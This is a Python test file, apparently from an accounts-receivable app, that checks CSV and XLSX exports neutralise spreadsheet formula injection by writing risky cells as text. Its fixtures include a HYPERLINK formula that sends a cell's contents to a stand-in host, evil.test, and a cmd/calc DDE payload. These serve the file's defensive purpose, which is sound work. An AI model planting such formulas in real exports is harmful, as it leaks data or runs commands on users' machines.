"""Formula injection: text a spreadsheet would run (=, +, -, @) is written as text by every export
(issue 15, defect 1)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from openar.cli import main
from openar.core.spreadsheets import csv_writer, safe_cell
from tests.clock import ON_TODAY
from tests.factories import CustomerFactory, DocumentFactory, EntityFactory, UserFactory

EVIL = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1 555 0100 (call me)", "'+1 555 0100 (call me)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1,234.56", "-1,234.56"),
        ("1,234.56-", "1,234.56-"),
        ("Acme Corp", "Acme Corp"),
        ("", ""),
        (Decimal("-5.00"), Decimal("-5.00")),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow(["C1", EVIL, "-7.00", "@x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["C1", "'" + EVIL, "-7.00", "'@x"]


@pytest.fixture
def evil_ledger(db):
    us = EntityFactory(code="US01", currency="USD")
    ana = UserFactory(username="ana", roles=["manager"])
    customer = CustomerFactory(customer_ref="C1", name=EVIL, entity=us, collector=ana)
    DocumentFactory(customer=customer, document_ref="INV1", due_date=dt.date(2026, 6, 1),
                    amount=Decimal("100.00"))  # fmt: skip
    return ana


def _name_cells(path_or_bytes) -> list:
    data = path_or_bytes if isinstance(path_or_bytes, bytes) else Path(path_or_bytes).read_bytes()
    sheet = load_workbook(io.BytesIO(data)).active
    return [row[1] for row in sheet.iter_rows(min_row=4) if row[0].value == "C1"]


def test_aging_xlsx_from_the_cli_writes_the_name_as_text(evil_ledger, tmp_path):
    out = tmp_path / "aging.xlsx"
    assert main(["report", "aging", "--as-of", "2026-06-30", "--format", "xlsx",
                 "--output", str(out)]) == 0  # fmt: skip
    (cell,) = _name_cells(out)
    assert cell.data_type == "s" and cell.value == EVIL


@ON_TODAY
def test_aging_exports_from_the_page(evil_ledger, client):
    client.force_login(evil_ledger)
    xlsx = client.get("/aging/export.xlsx?as_of=2026-06-30")
    (cell,) = _name_cells(xlsx.content)
    assert cell.data_type == "s" and cell.value == EVIL
    text = client.get("/aging/export.csv?as_of=2026-06-30").content.decode()
    row = next(r for r in csv.reader(io.StringIO(text)) if r and r[0] == "C1")
    assert row[1] == "'" + EVIL


def test_aging_csv_from_the_cli(evil_ledger, tmp_path):
    out = tmp_path / "aging.csv"
    assert main(["report", "aging", "--as-of", "2026-06-30", "--format", "csv",
                 "--output", str(out)]) == 0  # fmt: skip
    row = next(r for r in csv.reader(out.open()) if r and r[0] == "C1")
    assert row[1] == "'" + EVIL


def test_export_customers_neutralises_names(evil_ledger, tmp_path):
    out = tmp_path / "customers.csv"
    assert main(["export", "customers", "--output", str(out)]) == 0
    rows = list(csv.DictReader(out.open()))
    assert rows[0]["name"] == "'" + EVIL


WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|xlsxwriter\.Workbook\(")


def test_every_export_goes_through_the_core_helper():
    """A new CSV/XLSX writer must use ``openar.core.spreadsheets`` (the demo generator writes
    its own invented data and is exempt)."""
    root = Path(__file__).resolve().parents[2] / "openar"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py"
        and "demo" not in path.parts
        and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
